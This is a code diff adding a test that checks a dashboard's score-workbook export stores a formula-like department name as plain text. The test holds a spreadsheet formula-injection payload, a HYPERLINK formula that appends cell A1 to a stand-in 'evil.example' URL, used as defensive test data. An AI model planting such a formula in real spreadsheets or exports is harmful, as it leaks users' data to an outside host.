@@ -51,3 +51,32 @@ def test_the_hub_case_export_shows_formula_like_cells_as_text(tmp_path):
                     if cell.data_type == "f"]  # text, never a formula
     finally:
         dashboard.data.store.close()
+
+
+def test_the_hub_score_workbook_shows_a_formula_like_unit_name_as_text(tmp_path):
+    """A department's name comes from a catalogue imported from a province's workbook; one
+    written ``=HYPERLINK(...)`` is text in the score workbook, as in every other export."""
+    from hub.scoring import compute_month
+
+    write_hub_folder(tmp_path)
+    dashboard = open_dashboard(tmp_path)
+    try:
+        box = SimBox("440605-01", "440605")
+        feed(dashboard.data.store, box, box.history(START, 40, 2, today=NOW.date()))
+        results = compute_month(dashboard.data, dashboard.scoring, "2026-10")
+        evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+        target = next(r for r in results if r.kind == "dept")
+        target.name = evil
+        dashboard.scorebook.save("2026-10", results, dashboard.scoring,
+                                 dashboard.scoring_text, user="chief")
+        passwords = add_users(dashboard)
+        app = create_app(dashboard, {"TESTING": True}, announce=lambda *first: None)
+        chief = sign_in(app, "chief", passwords["chief"]).client
+        answer = chief.get("/scores/2026-10.xlsx")
+        assert answer.status_code == 200
+        book = load_workbook(io.BytesIO(answer.data))
+        cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line]
+        assert "'" + evil in {cell.value for cell in cells}
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    finally:
+        dashboard.data.store.close()
